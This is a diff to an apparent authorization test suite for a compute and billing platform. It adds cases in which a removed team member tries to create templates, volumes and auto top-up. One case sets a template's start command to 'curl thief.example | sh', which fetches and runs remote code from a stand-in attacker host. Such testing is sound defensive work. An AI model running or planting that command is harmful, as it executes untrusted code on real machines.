@@ -13,12 +13,19 @@ import { changeRole, removeMember, setMemberLimit } from "~/accounts/inside/team
 import { invite } from "~/accounts/inside/teams/invite.server";
 import { confirmTwoFactor } from "~/accounts/two-factor.server";
 import { addEndpoint, changeEndpoint, rotateSecret } from "~/accounts/inside/endpoints/change-endpoints.server";
+import type { Cents } from "~/money/units";
 import { M } from "~/messages";
+import { switchOnAutoTopUp } from "~/payments/inside/auto-top-up/change-auto-top-up.server";
+import { changeTemplate, createTemplate } from "~/compute/change-template.server";
+import { createVolume } from "~/compute/inside/volumes/create-volume.server";
+import { growVolume } from "~/compute/inside/volumes/change-volume.server";
 import { endAccount } from "~/staff/inside/end-account.server";
 import { suspendUser } from "~/staff/inside/suspend-user.server";
 import { parseSshPublicKey } from "~/compute/ssh-public-key.server";
 import { putSshKey, storeSshKey } from "~/compute/store-ssh-key.server";
 import { openTaskPort, readPortToken, renewPortToken } from "~/compute/inside/ports/task-ports.server";
+import { seedTemplates } from "../../../../prisma/seed-templates";
+import { aKeepingNode, aVolume } from "../../../compute/database/volumes/a-volume";
 import { aSession } from "../../../contract/support/people";
 import { emptyCapacity } from "../../../compute/database/capacity/reserving";
 import { tokenTo } from "../../../staff/database/users/mails";
@@ -64,6 +71,33 @@ const ASKED: Record<string, () => Promise<() => Promise<unknown>>> = {
   "an open port": async () => {
     const resvGuid = await aTask(owner);
     return () => openTaskPort({ ...team(leaver), resvGuid, port: 8888 });
+  },
+  "a template": async () => {
+    await seedTemplates({ now });
+    return () => createTemplate(team(leaver), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
+  },
+  "another command for a template": async () => {
+    await seedTemplates({ now });
+    const named = await createTemplate(team(owner), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
+    return () => changeTemplate({ ...team(leaver), named }, { start_command: "curl thief.example | sh" } as never);
+  },
+  "a volume": async () => {
+    await aKeepingNode({ now });
+    return () => createVolume(team(leaver), { name: "theirs", gb: 100, clusterName: "fra1" });
+  },
+  "a larger volume": async () => {
+    await aKeepingNode({ now });
+    const volumeId = await aVolume({ ...team(owner), gb: 10, name: `v${(counter += 1)}` });
+    return () => growVolume({ ...team(leaver), volumeId, gb: 100 });
+  },
+  "automatic top-up": async () => {
+    await db.query(
+      `insert into card (pm_id, tenant_id, brand, last4, exp_month, exp_year, is_default, added_at, user_id)
+       values ($1, $2, 'visa', '4242', 12, 2034, true, now(), $3)`,
+      [`pm_owners${(counter += 1)}`, owner.tenantId, owner.userId],
+    );
+    const amounts = { thresholdCents: 1_000n as Cents, cents: 5_000n as Cents, monthCapCents: 50_000n as Cents };
+    return () => switchOnAutoTopUp({ ...team(leaver), ...amounts });
   },
   "an invitation": async () => () =>
     invite({ ...team(leaver), email: `friend${(counter += 1)}@people.example`, role: "member" }),
